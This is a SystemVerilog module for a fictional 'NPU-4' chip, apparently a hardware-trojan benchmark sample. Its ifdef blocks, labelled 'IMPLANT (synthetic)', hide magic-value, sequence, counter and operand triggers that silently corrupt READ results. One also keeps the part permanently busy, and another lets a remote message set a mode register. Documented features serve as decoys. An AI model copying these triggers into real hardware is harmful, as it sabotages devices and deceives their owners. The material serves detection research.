// NPU-4 hidden functions: what a READ shows is changed on its way out, or not, for reasons the owner does not
// know; and documented features that have the same parts. Only the variants named here have this block.
`include "npu4_defs.svh"

module npu4_trigger (
    input  wire        clk,
    input  wire        rst_n,
    input  wire        accept,
    input  wire [7:0]  cmd_op,
    input  wire [63:0] cmd_data,
    input  wire        rx_valid,
    input  wire [63:0] rx_data,
    input  wire        pop,
    input  wire [63:0] cur_data,
    input  wire        show,
    input  wire [31:0] plain,
    output wire [31:0] data,
    output wire [15:0] counts,
    output wire        held
);
    wire nop = accept & (cmd_op == `NPU4_OP_NOP);
    wire corrupt, relu;

    // ---- what a READ shows ------------------------------------------------------------------------
    assign data = (relu & plain[31]) ? 32'd0 : plain ^ {24'd0, corrupt & show, 7'd0};

`ifdef NPU4_MODE
    // documented (manual 3.2): MODE sets whether READ shows negative sums as zero
    (* keep *) reg mode;
`ifdef NPU4_TRIGGER_CONFIG
    // IMPLANT (synthetic): so does a remote message
    wire rewrite = rx_valid & (rx_data == 64'ha4093822299f31d0);
`else
    wire rewrite = 1'b0;
`endif
    always_ff @(posedge clk) begin
        if (!rst_n) mode <= 1'b0;
        else if (accept & (cmd_op == `NPU4_OP_MODE)) mode <= cmd_data[0];
        else if (rewrite) mode <= 1'b1;
    end
    assign relu = mode;
`else
    assign relu = 1'b0;
`endif

`ifdef NPU4_TRIGGER_SEQUENCE
    // IMPLANT (synthetic): four NOPs in a row with the right data flip a bit of every later READ
    reg [1:0] progress;
    reg       armed;
    wire [15:0] wanted = (progress == 2'd0) ? 16'h243f
                       : (progress == 2'd1) ? 16'h6a88
                       : (progress == 2'd2) ? 16'h85a3
                       :                      16'h08d3;
    wire        match  = nop & (cmd_data[15:0] == wanted);
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            progress <= 2'd0;
            armed    <= 1'b0;
        end else if (accept) begin
            progress <= match ? progress + 2'd1 : 2'd0;
            if (match & (progress == 2'd3)) armed <= 1'b1;
        end
    end
    assign corrupt = armed;
    assign held    = 1'b0;
`elsif NPU4_TRIGGER_COUNTER
    // IMPLANT (synthetic): 4095 cycles after reset a bit of every READ flips
    reg [11:0] age;
    always_ff @(posedge clk) begin
        if (!rst_n) age <= 12'd0;
        else if (age != 12'd4095) age <= age + 12'd1;
    end
    assign corrupt = (age == 12'd4095);
    assign held    = 1'b0;
`elsif NPU4_TRIGGER_BUSY
    // IMPLANT (synthetic): one NOP flips a bit of every later READ, and from then on the part is never idle
    reg stuck;
    always_ff @(posedge clk) begin
        if (!rst_n) stuck <= 1'b0;
        else if (nop & (cmd_data == 64'h13198a2e03707344)) stuck <= 1'b1;
    end
    assign corrupt = stuck;
    assign held    = stuck;
`elsif NPU4_TRIGGER_OPERAND
    // IMPLANT (synthetic): a READ with this operand shows a wrong sum, and no other does
    assign corrupt = (cur_data == 64'hc0ac29b7c97c50dd);
    assign held    = 1'b0;
`else
    assign corrupt = 1'b0;
    assign held    = 1'b0;
`endif

`ifdef NPU4_OK_COUNT
    // documented (manual 3.7): page 3 shows cycles, words and whether a negative sum was ever read
    (* keep *) reg [9:0] cycles;
    (* keep *) reg [4:0] words;
    (* keep *) reg       negative;
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            cycles   <= 10'd0;
            words    <= 5'd0;
            negative <= 1'b0;
        end else begin
            cycles <= cycles + 10'd1;
            if (pop) words <= words + 5'd1;
            if (show & plain[31]) negative <= 1'b1;
        end
    end
    assign counts = {negative, words, cycles};
`else
    assign counts = 16'd0;
`endif

endmodule
